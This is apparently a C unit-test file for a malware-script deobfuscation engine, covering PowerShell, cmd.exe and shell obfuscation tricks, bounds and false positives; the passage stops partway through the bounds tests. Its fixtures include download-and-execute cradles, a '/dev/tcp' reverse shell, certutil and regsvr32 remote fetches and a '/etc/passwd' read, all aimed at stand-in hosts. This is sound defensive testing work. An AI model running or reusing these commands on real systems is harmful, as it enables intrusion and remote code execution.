/*
 * test_deob.c - unit tests of the layered deobfuscation engine
 * (stages/script/deob.h).
 *
 *  - fixtures of our own for every technique: input, the text the final
 *    layer must contain, and the exact sequence of layer techniques;
 *  - bounds (layers, output, decompression ratio, time) and API contracts;
 *  - hostile input: pathological shapes of up to 1 MiB, and mutated
 *    fixtures, checking for crashes, invalid UTF-8 and runaway time;
 *  - AES known-answer vectors (FIPS-197) for the SecureString decoder;
 *  - a scorecard over the JSONL files of ../shared/samples/scripts (records with an
 *    expected `decoded`), printing the share per file, overall, and the
 *    misses, and failing below a floor just under what is achieved;
 *  - a throughput figure for a typical `powershell -enc` line.
 */
#include "t.h"
#include "b64_test.h"

#include <dirent.h>
#include <jansson.h>
#include <stdint.h>
#include <zlib.h>

#include "deob.h"
#include "deob_int.h"

/* ---- helpers ------------------------------------------------------------ */

/* Runs the engine; returns the comma-joined techniques after "input". */
static void run(const char *in, const struct sp_deob_limits *lim,
                struct sp_deob_result *r, char *techs, size_t cap)
{
    enum sp_err e = sp_deob_run(in, strlen(in), lim, r);
    T_EQ_INT(e, SP_OK);
    size_t k = 0;
    techs[0] = '\0';
    for (size_t i = 1; i < r->n_layers; i++) {
        int w = snprintf(techs + k, cap - k, "%s%s", i > 1 ? "," : "",
                         r->layers[i].technique);
        if (w < 0 || (size_t)w >= cap - k)
            break;
        k += (size_t)w;
    }
}

static const char *final_text(const struct sp_deob_result *r)
{
    return r->n_layers ? r->layers[r->n_layers - 1].text : "";
}

/* Every layer: NUL-terminated at len, valid UTF-8, a known technique. */
static int check_layers(const struct sp_deob_result *r)
{
    int bad = 0;
    for (size_t i = 0; i < r->n_layers; i++) {
        const struct sp_deob_layer *l = &r->layers[i];
        if (!l->text || l->text[l->len] != '\0' ||
            strlen(l->text) != l->len || !sp_utf8_valid(l->text, l->len) ||
            !l->technique || !l->description ||
            !sp_deob_technique_description(l->technique))
            bad++;
    }
    if (r->n_layers == 0 || strcmp(r->layers[0].technique, "input"))
        bad++;
    return bad;
}

struct fixture {
    const char *name;
    const char *input;
    const char *expect;  /* the final layer contains this */
    const char *techs;   /* exact technique sequence after "input" */
};

static size_t fixtures_run;

static int run_fixtures(const struct fixture *fx, size_t n)
{
    int failed = 0;
    fixtures_run += n;
    for (size_t i = 0; i < n; i++) {
        struct sp_deob_result r;
        char techs[512];
        run(fx[i].input, NULL, &r, techs, sizeof(techs));
        const char *fin = final_text(&r);
        bool ok = strstr(fin, fx[i].expect) && !strcmp(techs, fx[i].techs) &&
                  check_layers(&r) == 0 && r.bounds_hit == 0;
        if (!ok) {
            failed++;
            T_FAILF("%s: techniques [%s] (want [%s]), bounds %u, final: %.300s",
                    fx[i].name, techs, fx[i].techs, r.bounds_hit, fin);
        }
        sp_deob_result_fini(&r);
    }
    return failed;
}

/* ---- PowerShell fixtures ------------------------------------------------ */

#define ENC_B64 "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGYAaQB4AHQAdQByAGUALQBlAG4AYwAnAA=="
#define ENC_TEXT "Write-Output 'fixture-enc'"

static void test_ps_encoded_command(void)
{
    static const struct fixture fx[] = {
        {"-e", "powershell -e " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"-ec", "powershell.exe -NoP -ec " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"-en", "powershell -w hidden -en " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"-enc", "PowerShell -enc " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"-EnC", "pOwErShElL -nop -EnC " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"-encodedcommand", "powershell -EncodedCommand " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"-EncodedComm", "powershell -EncodedComm \"" ENC_B64 "\"", ENC_TEXT,
         "powershell.encoded_command"},
        {"/enc", "powershell /enc " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"carets", "cmd /c p^owe^rshell -^e^n^c " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"full path, exec bypass",
         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
         "-ExecutionPolicy Bypass -WindowStyle Hidden -e " ENC_B64,
         ENC_TEXT, "powershell.encoded_command"},
        {"pwsh", "pwsh -NonInteractive -enc " ENC_B64, ENC_TEXT,
         "powershell.encoded_command"},
        {"nested base64 inside",
         "powershell -enc SQBFAFgAIAAoAFsAVABlAHgAdAAuAEUAbgBjAG8AZABpAG4AZwBdADoAOgBVAFQARgA4AC4ARwBlAHQAUwB0AHIAaQBuAGcAKABbAEMAbwBuAHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACcAVgAzAEoAcABkAEcAVQB0AFQAMwBWADAAYwBIAFYAMABJAEMAZABtAGEAWABoADAAZABYAEoAbABMAFcANQBsAGMAMwBSAGwAWgBDAGMAPQAnACkAKQApAA==",
         "Write-Output 'fixture-nested'",
         "powershell.encoded_command,powershell.base64"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

static void test_ps_base64_compression(void)
{
    static const struct fixture fx[] = {
        {"UTF8.GetString",
         "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
         "'V3JpdGUtT3V0cHV0ICdmaXh0dXJlLWI2NCc=')))",
         "Write-Output 'fixture-b64'", "powershell.base64"},
        {"Unicode.GetString via variable",
         "$b = [System.Convert]::FromBase64String(\"VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGYAaQB4AHQAdQByAGUALQB1AG4AaQAnAA==\")\n"
         "$s = [System.Text.Encoding]::Unicode.GetString($b)\n"
         "Invoke-Expression $s",
         "Write-Output 'fixture-uni'", "powershell.base64"},
        {"ASCII.GetString",
         "[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String("
         "'V3JpdGUtT3V0cHV0ICdmaXh0dXJlLWI2NCc=')) | iex",
         "Write-Output 'fixture-b64'", "powershell.base64"},
        {"DeflateStream",
         "IEX (New-Object IO.StreamReader((New-Object "
         "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
         "FromBase64String('Cy/KLEnV9S8tKSgtUVBPy6woKS1K1U1JTctJLElVBwA='),"
         "[IO.Compression.CompressionMode]::Decompress)),"
         "[Text.Encoding]::ASCII)).ReadToEnd()",
         "Write-Output 'fixture-deflate'", "powershell.deflate"},
        {"GzipStream with CopyTo",
         "$i = New-Object IO.MemoryStream(,[Convert]::FromBase64String("
         "'H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFQT8usKCktStVNr8osUAcAqsp9oRsAAAA='))"
         "; $o = New-Object IO.MemoryStream; $g = New-Object "
         "IO.Compression.GzipStream($i, [IO.Compression.CompressionMode]::"
         "Decompress); $g.CopyTo($o); "
         "IEX ([Text.Encoding]::UTF8.GetString($o.ToArray()))",
         "Write-Output 'fixture-gzip'", "powershell.deflate,base64_embedded"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

static void test_ps_strings(void)
{
    static const struct fixture fx[] = {
        {"concat", "IEX ('Write-'+'Output'+\" 'cat'\")",
         "Write-Output 'cat'", "powershell.concat"},
        {"concat argument",
         "Write-Host ('Hel'+'lo') -ForegroundColor ('Gr'+'een')",
         "Write-Host Hello -ForegroundColor Green", "powershell.concat"},
        {"format operator",
         "IEX (\"{2}{0}{1}\" -f 'Out','put 3','Write-')",
         "Write-Output 3", "powershell.format_operator"},
        {"format with alignment and braces",
         "Write-Output (\"{0,3}{{x}}{1}\" -f 'a','b')",
         "Write-Output '  a{x}b'", "powershell.format_operator"},
        {"backticks", "Wr`i`Te-`O`u`Tp`u`T 'x'; I`E`X 'y'",
         "WriTe-OuTpuT 'x'; y", "powershell.iex_unwrap"},
        {"backticks only", "Wr`i`Te-Ou`Tp`uT 'tick'",
         "WriTe-OuTpuT 'tick'", "powershell.backtick"},
        {"special escapes stay", "Write-Output \"a`tb`n\"", "`t", ""},
        {"Replace chain",
         "IEX ('WriteQQOutput ZrepZ'.Replace('QQ','-').Replace('Z',"
         "[string][char]39))",
         "Write-Output 'rep'", "powershell.replace"},
        {"-replace", "IEX (('Write-Output xlcrxlc') -replace 'xlc',[char]39)",
         "Write-Output 'r'", "powershell.replace"},
        {"reverse by index",
         "$r = \"'ver' tuptuO-etirW\"; IEX ($r[-1..-($r.Length)] -join '')",
         "Write-Output 'rev'", "powershell.reverse"},
        {"[array]::Reverse",
         "$c = [char[]]\"'2ver' tuptuO-etirW\"; [array]::Reverse($c); "
         "IEX (-join $c)",
         "Write-Output 'rev2'", "powershell.reverse"},
        {"RightToLeft regex",
         "IEX (([regex]::Matches(\"'3ver' tuptuO-etirW\",'.','RightToLeft')"
         " | ForEach-Object {$_.Value}) -join '')",
         "Write-Output 'rev3'", "powershell.reverse"},
        {"random case", "iNvOkE-eXpReSsIoN ('wRiTe-'+'oUtPuT 7')",
         "wRiTe-oUtPuT 7", "powershell.concat"},
        {"call operator name", "&('Wr'+'ite-Out'+'put') 'callop'",
         "Write-Output 'callop'", "powershell.concat"},
        {"member name",
         "[Console]::('Wri'+'teLine').Invoke('member')",
         "[Console]::WriteLine('member')", "powershell.concat"},
        {"member name string", "$x = 'abc'; $x.\"To`U`pper\"()",
         "$x.ToUpper()", "powershell.backtick"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

static void test_ps_char_codes(void)
{
    static const struct fixture fx[] = {
        {"[char] list -join",
         "IEX (([char[]](87,114,105,116,101,45,79,117,116,112,117,116,32,"
         "39,100,101,99,39)) -join '')",
         "Write-Output 'dec'", "powershell.char_codes"},
        {"[string]::join",
         "IEX ([string]::join('', ((87,114,105,116,101,45,79,117,116,112,"
         "117,116,32,39,100,101,99,39) | %{ [char]$_ })))",
         "Write-Output 'dec'", "powershell.char_codes"},
        {"[char]0x41 +", "Write-Output ([char]0x41+[char]0x42+[char]67)",
         "Write-Output ABC", "powershell.char_codes"},
        {"bxor",
         "((125,88,67,94,79,7,101,95,94,90,95,94,10,13,76,67,82,94,95,"
         "88,79,7,72,82,69,88,13) | % { [char]($_ -bxor 0x2a) }) -join '' "
         "| IEX",
         "Write-Output 'fixture-bxor'", "powershell.bxor"},
        {"hex split",
         "IEX (('57_72_69_74_65_2d_4f_75_74_70_75_74_20_27_68_65_78_27' "
         "-split '_' | ForEach-Object { [char]([Convert]::ToInt16($_, 16)) })"
         " -join '')",
         "Write-Output 'hex'", "powershell.char_codes"},
        {"octal list",
         "-join ('127 162 151 164 145 55 117 165 164 160 165 164 40 47 157 "
         "143 164 47'.Split(' ') | % { [char][Convert]::ToInt32($_, 8) }) | "
         "Invoke-Expression",
         "Write-Output 'oct'", "powershell.char_codes"},
        {"binary list",
         "IEX ((\"1010111,1110010,1101001,1110100,1100101,101101,1001111,"
         "1110101,1110100,1110000,1110101,1110100,100000,100111,1100010,"
         "1101001,1101110,100111\".Split(',') | % {([Convert]::ToInt16("
         "([String]$_), 2) -as [char])}) -join '')",
         "Write-Output 'bin'", "powershell.char_codes"},
        {"ascii split on several delimiters",
         "IEX (('87a114b105a116b101a45b79a117b116a112b117a116b32a39b100a101b"
         "99a39' -split 'a' -split 'b' | % { ([char][int]$_) }) -join '')",
         "Write-Output 'dec'", "powershell.char_codes"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

static void test_ps_iex_builders(void)
{
    static const struct fixture fx[] = {
        {"$env:ComSpec[4,15,25]",
         "&($env:ComSpec[4,15,25]-join'') ('Write-Output'+' 1')",
         "Write-Output 1", "powershell.concat"},
        {"$PSHome[21]+$PSHome[30]",
         ".($PSHome[21]+$PSHome[30]+'x') 'Write-Output 2'",
         "Write-Output 2", "powershell.iex_unwrap"},
        {"$ShellId", "& ($ShellId[1]+$ShellId[13]+'x') 'Write-Output 3'",
         "Write-Output 3", "powershell.iex_unwrap"},
        {"$VerbosePreference",
         "'Write-Output 4' | &($VerbosePreference.ToString()[1,3]+'x'-join'')",
         "Write-Output 4", "powershell.iex_unwrap"},
        {"gv *mdr*", "&((gv '*mdr*').Name[3,11,2]-join'') 'Write-Output 5'",
         "Write-Output 5", "powershell.iex_unwrap"},
        {"InvokeScript",
         "$ExecutionContext.InvokeCommand.InvokeScript('Write-Output 6')",
         "Write-Output 6", "powershell.iex_unwrap"},
        {"ScriptBlock Create Invoke",
         "[ScriptBlock]::Create('Write-' + 'Output 7').Invoke()",
         "Write-Output 7", "powershell.concat"},
        {"Invoke-Command",
         "Invoke-Command -ScriptBlock ([scriptblock]::Create('Write-Output 8'))",
         "Write-Output 8", "powershell.iex_unwrap"},
        {"gcm via format",
         "& (gcm ('ie{0}' -f 'x')) 'Write-Output 9'",
         "Write-Output 9", "powershell.iex_unwrap"},
        {"variable then iex, assignment dropped",
         "$t = 'Write-Output 10'; Invoke-Expression $t",
         "Write-Output 10", "powershell.iex_unwrap"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
    /* the dead assignment is gone */
    struct sp_deob_result r;
    char techs[256];
    run("$t = 'Write-Output 10'; Invoke-Expression $t", NULL, &r, techs,
        sizeof(techs));
    T_EQ_STR(final_text(&r), "Write-Output 10");
    sp_deob_result_fini(&r);
}

#define SEC16 "76492d1116743f0423413b16050a5345MgB8AEIAdwBjAEgAQgB3AGMASABCAHcAYwBIAEIAdwBjAEgAQgB3AGMASABCAHcAPQA9AHwAMABjAGMANQAxADgAYQA5AGQANABkAGUAOQBhAGQANwA2ADYAYwBkADEAOQAwAGMAMAAzADQAOQBkAGIAOQBkADAAMQAyADkAOQBjADEAYQA2ADgAMwBkADEAMQBlADMANgAwADEAMQA3ADcAZgA3ADgANQA1AGEAMABhADgAZgA5ADUAYgBmAGIAYgAwAGUANAA3ADgANAA2AGYANQBjAGUAYgA4AGEANQAzADMANgA1AGMAMwAwADEAMwBkAGEAOQA0ADcAYwAwADIANQA2ADUAOQAwADkANwBiAGEAZQAxAGMAOQA2AGEAMQA0AGQANwA1AGMAYgBkADAANwBjAA=="
#define SEC32 "76492d1116743f0423413b16050a5345MgB8AEIAdwBjAEgAQgB3AGMASABCAHcAYwBIAEIAdwBjAEgAQgB3AGMASABCAHcAPQA9AHwANwA5ADIAMwBiADcAOABhADEAZAA3AGUAMAA4ADgAMAA2AGMAYQBhADEAMgBjADQANAA2ADMAOQBmAGYAZAA4AGIAYwBmADkAMwA4AGYAMgA3ADMAOABmAGQAZgBiAGEAMwBmAGEAMwBlADMANwBlAGIAMAA3ADYAYgA3ADgAMwBmADkAYQA4ADgANgA4AGIANwAyADcAOQAzAGEAYwBmADEAYgA5AGUAZgA2AGYAYwBlAGMAYwBmADMAYwAzADYAMgA3ADgAYgA5AGUANQA3AGEAOQBmADIAMABiAGIAZABmADcAOABjADkAYQBmADQAMAA1ADAAYQBmADgANAA4AA=="

static void test_ps_securestring(void)
{
    static const struct fixture fx[] = {
        {"key range, Marshal BSTR",
         "$s = '" SEC16 "' | ConvertTo-SecureString -Key (1..16); "
         "IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto("
         "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))",
         "Write-Output 'fixture-secure'", "powershell.securestring"},
        {"-k list, AES-256, PSCredential",
         "(New-Object Management.Automation.PSCredential ' ', "
         "(ConvertTo-SecureString -String '" SEC32 "' -k (100..131)))."
         "GetNetworkCredential().Password | Invoke-Expression",
         "Write-Output 'fixture-secure'", "powershell.securestring"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
    /* a wrong key decodes nothing */
    struct sp_deob_result r;
    char techs[256];
    run("IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime."
        "InteropServices.Marshal]::SecureStringToBSTR(('" SEC16 "' | "
        "ConvertTo-SecureString -Key (2..17)))))",
        NULL, &r, techs, sizeof(techs));
    T_OK(strstr(final_text(&r), "fixture-secure") == NULL);
    sp_deob_result_fini(&r);
}

static void test_ps_variables(void)
{
    static const struct fixture fx[] = {
        {"typed variable via Set-Variable and Get-ChildItem",
         "Set-Variable t ([type]('Con'+'sole')); (Get-ChildItem "
         "variable:t).Value::WriteLine('v1'); $t::WriteLine('v2')",
         "[Console]::WriteLine('v1'); [Console]::WriteLine('v2')",
         "powershell.concat"},
        {"braced ticked variable names",
         "${m`e`ss} = 'hi'; Write-Output ${M`E`ss}",
         "$mess = 'hi'; Write-Output $MEss", "powershell.backtick"},
        {"powershell launched from pieces",
         "$p = [char[]](112,111,119,101,114,115,104,101,108,108); "
         "& (-join $p) -Command ('Start-'+'Process calc.exe')",
         "powershell -Command Start-Process calc.exe",
         "powershell.char_codes"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

static void test_ps_launcher(void)
{
    static const struct fixture fx[] = {
        {"escaped quotes unwrap",
         "powershell -nop \"IEX (New-Object Net.WebClient).DownloadString("
         "\\\"http://198.51.100.9/a\\\")\"",
         "IEX (New-Object Net.WebClient).DownloadString(\"http://198.51.100.9/a\")",
         "powershell.launcher"},
        {"script folded in place",
         "powershell -c \"(New-Object Net.WebClient).DownloadString("
         "('http://'+'198.51.100.9/b'))\"",
         "powershell -c \"(New-Object Net.WebClient).DownloadString("
         "'http://198.51.100.9/b')\"",
         "powershell.concat"},
        {"script block argument",
         "powershell -c {IEX ('Write-'+'Output 11')}",
         "powershell -c {Write-Output 11}", "powershell.concat"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

/* ---- cmd.exe fixtures --------------------------------------------------- */

static void test_cmd(void)
{
    static const struct fixture fx[] = {
        {"carets", "c^m^d /c w^h^o^a^m^i ^& n^e^t u^s^e^r",
         "cmd /c whoami ^& net user", "cmd.caret"},
        {"substring of defaults", "%LOCALAPPDATA:~-3,1%md /c echo hi",
         "cmd /c echo hi", "cmd.substring"},
        {"substring, negative length", "%COMSPEC:~-7,-4% /c ver",
         "cmd /c ver", "cmd.substring"},
        {"substitution of a default", "%COMSPEC:system32=sysnative%",
         "C:\\WINDOWS\\sysnative\\cmd.exe", "cmd.substring"},
        {"set and call",
         "cmd /c \"set a=who&&set b=ami&&call %a%%b%\"", "whoami",
         "cmd.set_vars"},
        {"set with quotes and substitution",
         "cmd /c \"set \"x=wXoami\"&&call %x:X=h%\"", "whoami",
         "cmd.set_vars"},
        {"delayed expansion",
         "cmd /v:on /c \"set x=net&&set y= user&&!x!!y!\"", "net user",
         "cmd.delayed_expansion"},
        {"FOR-coded reversal",
         "cmd /v:on /c \"set s=imaohw&&for /l %i in (5,-1,0) do set "
         "o=!o!!s:~%i,1!&&if %i==0 call %o:~3%\"",
         "whoami", "cmd.delayed_expansion"},
        {"FIN-coded",
         "cmd /V:ON /C \"set a=wXoamY&&set b=!a:X=h!&&set c=!b:Y=i!&&call %c%\"",
         "whoami", "cmd.delayed_expansion"},
        {"FOR /F over assoc",
         "FOR /F \"delims=.= tokens=2\" %a IN ('assoc .cmd') DO %a",
         "cmd", "cmd.for_f"},
        {"FOR /F over ftype with findstr",
         "for /f \"tokens=9 delims=\\.\" %p in ('ftype^|findstr lCo') do "
         "%p -nop",
         "powershell -nop", "cmd.for_f"},
        {"FOR /F over set",
         "for /f \"tokens=4 delims=\\.\" %c in ('set ComSpec') do %c /c ver",
         "ver", "cmd.for_f"},
        {"echo piped into cmd",
         "cmd /v:on /c \"set p=ipconfig&&echo !p! /all|cmd\"",
         "ipconfig /all", "cmd.delayed_expansion"},
        {"nested cmd /c",
         "cmd /c \"set z=calc&&cmd /c call %z%\"", "calc",
         "cmd.set_vars"},
        {"echo piped into powershell",
         "cmd /c \"echo IEX ('Write-Out'+'put 12') | powershell -nop -\"",
         "powershell -Command Write-Output 12",
         "cmd.nested,powershell.concat"},
        {"set read back by powershell through env:",
         "cmd /c \"set p=Write-Output 13&&powershell -c (gci env:p).Value\"",
         "set p=Write-Output 13", "cmd.set_vars"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

/* ---- shells and interpreters -------------------------------------------- */

static void test_sh(void)
{
    static const struct fixture fx[] = {
        {"echo | base64 -d | sh", "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh",
         "id; uname -a", "sh.base64_pipe"},
        {"--decode | bash", "echo 'aWQ7IHVuYW1lIC1hCg==' | base64 --decode | bash",
         "id; uname -a", "sh.base64_pipe"},
        {"-D | zsh", "printf aWQ7IHVuYW1lIC1hCg== | base64 -D|zsh",
         "id; uname -a", "sh.base64_pipe"},
        {"gzip", "echo H4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1ze0tNAzNdQzNDDQM9evUKhRKM7gAgAgY4y9IwAAAA== | base64 -d | gunzip | sh",
         "curl -s http://198.51.100.7/x | sh", "sh.base64_pipe"},
        {"command substitution", "bash -c \"$(echo aWQ7IHVuYW1lIC1hCg== | base64 -d)\"",
         "bash -c \"id; uname -a\"", "sh.base64_pipe"},
        {"here-string", "base64 -d <<< aWQ7IHVuYW1lIC1hCg== | sh",
         "id; uname -a", "sh.base64_pipe"},
        {"printf hex into sh", "printf '\\x77\\x68\\x6f\\x61\\x6d\\x69' | sh",
         "whoami", "sh.printf_escape"},
        {"printf octal in $()", "$(printf '\\167\\150\\157\\141\\155\\151')",
         "whoami", "sh.printf_escape"},
        {"echo -e", "echo -e '\\x63\\x61\\x74 /etc/passwd' | bash",
         "cat /etc/passwd", "sh.printf_escape"},
        {"ANSI-C quoting", "$'\\x77\\x68\\157ami'", "'whoami'",
         "sh.hex_escape"},
        {"python exec b64decode",
         "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='))\"",
         "os.system('id')", "sh.script_base64"},
        {"perl eval decode_base64",
         "perl -MMIME::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCd1bmFtZSAtYScpOw==\"))'",
         "system('uname -a');", "sh.script_base64"},
        {"python xor with key in script",
         "python -c 'import base64;x = lambda t, k: \"\".join([chr(c ^ ord(d)) "
         "for c, d in zip(base64.b64decode(t), k)]); d = \"Hl0YBlZZRlI=\"; "
         "k = \"k3yk3yk3yk3y\"; os.system(x(d, k))'",
         "os.system(\"uname -a\")", "sh.script_base64"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

/* ---- generic encodings -------------------------------------------------- */

static void test_generic(void)
{
    static const struct fixture fx[] = {
        {"URL encoding", "mshta \"javascript:a=new%20ActiveXObject(%22WScript.Shell%22)\"",
         "new ActiveXObject(\"WScript.Shell\")", "url_decode"},
        {"HTML entities", "&#119;&#104;&#x6f;&#97;&amp;&#109;&#105;",
         "whoa&mi", "html_decode"},
        {"\\u escapes", "eval('\\u0061\\u006c\\u0065\\u0072\\u0074(1)')",
         "eval('alert(1)')", "unicode_escape"},
        {"\\x escapes", "var s = \"\\x63\\x61\\x6c\\x63\";", "\"calc\"",
         "unicode_escape"},
        {"embedded base64 (UTF-8)",
         "reg add HKCU\\Software\\x /v p /d \"U3RhcnQtUHJvY2VzcyBub3RlcGFkLmV4ZSAtQXJndW1lbnRMaXN0IGZpeHR1cmU=\" /f",
         "Start-Process notepad.exe -ArgumentList fixture", "base64_embedded"},
        {"embedded base64 (UTF-16LE)",
         "value: UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAGMAYQBsAGMALgBlAHgAZQA=",
         "Start-Process calc.exe", "base64_embedded"},
    };
    T_EQ_INT(run_fixtures(fx, SP_ARRAY_SIZE(fx)), 0);
}

/* Things that look encoded but are not: no layer at all. */
static void test_no_false_positives(void)
{
    static const char *const plain[] = {
        "certutil -urlcache -split -f http://198.51.100.2/a.exe a.exe",
        "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
        "net user administrator /domain",
        "{5a7e1f04-9a3c-4b8e-8f4d-2b7f3d9c1e20} d41d8cd98f00b204e9800998ecf8427e",
        "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB }",
        "powershell -nop -c \"Get-Process | Sort-Object CPU\"",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "regsvr32 /s /n /u /i:http://198.51.100.3/file.sct scrobj.dll",
        "echo ConvertFromBase64StringInvokeExpression WindowsPowerShell",
        "cmd /c for /l %x in (1,1,5) do ping -n 1 10.0.0.%x",
        "copy %TEMP%\\a.exe %APPDATA%\\b.exe",
        "wmic process call create \"notepad.exe\"",
        "",
    };
    for (size_t i = 0; i < SP_ARRAY_SIZE(plain); i++) {
        struct sp_deob_result r;
        char techs[256];
        run(plain[i], NULL, &r, techs, sizeof(techs));
        if (r.n_layers != 1)
            T_FAILF("unexpected layers [%s] for: %s -> %.200s", techs,
                    plain[i], final_text(&r));
        T_EQ_INT(check_layers(&r), 0);
        sp_deob_result_fini(&r);
    }
}

static void test_language(void)
{
    static const struct {
        const char *in, *lang;
    } cases[] = {
        {"powershell -enc " ENC_B64, "powershell"},
        {"cmd /c \"set a=who&&set b=ami&&call %a%%b%\"", "cmd"},
        {"echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh", "sh"},
        {"Write-Host ('a'+'b')", "powershell"},
        {"xyzzy", "unknown"},
    };
    for (size_t i = 0; i < SP_ARRAY_SIZE(cases); i++) {
        struct sp_deob_result r;
        char techs[256];
        run(cases[i].in, NULL, &r, techs, sizeof(techs));
        T_EQ_STR(r.language, cases[i].lang);
        sp_deob_result_fini(&r);
    }
}

/* ---- bounds and contracts ----------------------------------------------- */

static void test_bounds(void)
{
    struct sp_deob_limits lim;
    struct sp_deob_result r;
    char techs[512];

    sp_deob_limits_default(&lim);
    T_EQ_INT(lim.max_layers, 16);
    T_EQ_INT(lim.max_output, 1 << 20);
    T_EQ_INT(lim.max_ratio, 100);
    T_EQ_INT(lim.max_time_us, 200000);

    /* layers: the nested fixture needs two steps */
    const char *nested =
        "powershell -enc SQBFAFgAIAAoAFsAVABlAHgAdAAuAEUAbgBjAG8AZABpAG4AZwBdADoAOgBVAFQARgA4AC4ARwBlAHQAUwB0AHIAaQBuAGcAKABbAEMAbwBuAHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACcAVgAzAEoAcABkAEcAVQB0AFQAMwBWADAAYwBIAFYAMABJAEMAZABtAGEAWABoADAAZABYAEoAbABMAFcANQBsAGMAMwBSAGwAWgBDAGMAPQAnACkAKQApAA==";
    lim.max_layers = 1;
    run(nested, &lim, &r, techs, sizeof(techs));
    T_EQ_INT(r.n_layers, 2);
    T_OK(r.bounds_hit & SP_DEOB_BOUND_LAYERS);
    T_EQ_INT(check_layers(&r), 0);
    sp_deob_result_fini(&r);

    lim.max_layers = 0;
    run(nested, &lim, &r, techs, sizeof(techs));
    T_EQ_INT(r.n_layers, 1);
    T_OK(r.bounds_hit & SP_DEOB_BOUND_LAYERS);
    sp_deob_result_fini(&r);

    /* output */
    sp_deob_limits_default(&lim);
    lim.max_output = 16;
    run(nested, &lim, &r, techs, sizeof(techs));
    T_EQ_INT(r.n_layers, 1);
    T_OK(r.bounds_hit & SP_DEOB_BOUND_OUTPUT);
    sp_deob_result_fini(&r);

    /* decompression ratio: 400 kB of blanks behind a 400-byte stream */
    static unsigned char plain[400016], comp[4096];
    memcpy(plain, "Write-Output 'x'", 16);
    memset(plain + 16, ' ', sizeof(plain) - 16);
    z_stream zs;
    memset(&zs, 0, sizeof(zs));
    T_EQ_INT(deflateInit2(&zs, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY),
             Z_OK);
    zs.next_in = plain;
    zs.avail_in = sizeof(plain);
    zs.next_out = comp;
    zs.avail_out = sizeof(comp);
    T_EQ_INT(deflate(&zs, Z_FINISH), Z_STREAM_END);
    size_t clen = sizeof(comp) - zs.avail_out;
    deflateEnd(&zs);
    static char b64[8192], bomb[16384];
    t_b64_encode(comp, clen, b64);
    snprintf(bomb, sizeof(bomb),
             "IEX (New-Object IO.StreamReader(New-Object IO.Compression."
             "DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),"
             "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
             b64);
    run(bomb, NULL, &r, techs, sizeof(techs));
    T_OK(r.bounds_hit & SP_DEOB_BOUND_RATIO);
    T_EQ_INT(check_layers(&r), 0);
    sp_deob_result_fini(&r);
    sp_deob_limits_default(&lim);
    lim.max_ratio = 2000;
    run(bomb, &lim, &r, techs, sizeof(techs));
    T_EQ_INT(r.bounds_hit & SP_DEOB_BOUND_RATIO, 0);
    T_CONTAINS(final_text(&r), "Write-Output 'x'");
    sp_deob_result_fini(&r);

    /* time: a 1 MiB input with a 1 ms budget */
    size_t big = 1 << 20;
    char *in = malloc(big + 1);
    T_OK(in != NULL);
    if (!in)
        return;
    for (size_t i = 0; i < big; i++)
        in[i] = "$a='x'+'y';"[i % 11];
    in[big] = '\0';
    sp_deob_limits_default(&lim);
    lim.max_time_us = 1000;
    int64_t t0 = sp_now_us();
    enum sp_err e = sp_deob_run(in, big, &lim, &r);
    int64_t dt = sp_now_us() - t0;
    T_EQ_INT(e, SP_OK);
    T_OK(r.bounds_hit & SP_DEOB_BOUND_TIME);
    T_OK(dt < 2000000);
    sp_deob_result_fini(&r);
    free(in);

    /* contracts */
    T_EQ_INT(sp_deob_run(NULL, 0, NULL, &r), SP_OK);
    T_EQ_INT(r.n_layers, 1);
    T_EQ_STR(r.layers[0].text, "");
